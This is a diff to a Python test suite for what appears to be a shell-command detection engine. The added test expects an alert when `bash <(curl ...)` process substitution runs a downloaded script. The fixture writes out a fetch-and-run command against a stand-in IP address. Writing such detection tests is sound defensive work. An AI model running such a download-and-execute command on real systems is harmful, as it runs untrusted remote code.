@@ -105,6 +105,16 @@ def test_stdio_that_rules_a_pipe_out_is_believed(engine):
     assert not any("piped" in r for r in verdict.reasons), verdict.reasons
 
 
+def test_process_substitution_links_the_download_to_the_shell_reading_it(engine):
+    """`bash <(curl URL)`: bash reads the download from /dev/fd/63, its stdin stays the terminal."""
+    session = Session()
+    curl = session.exec("curl -fsSL http://203.0.113.9/i.sh", 100, "bash", stdout="pipe:77", stdin="tty")
+    bash = session.exec("bash /dev/fd/63", 100, "bash", gap=0.002, stdin="tty", stdout="tty")
+    verdict = _score(engine, [curl, bash])[1]
+    assert verdict.severity == "alert", verdict
+    assert any("download piped into bash" in r for r in verdict.reasons), verdict.reasons
+
+
 def test_sequential_commands_are_not_a_pipe(engine):
     session = Session()
     curl = session.exec("curl -s https://example.org/health", 100, "bash")
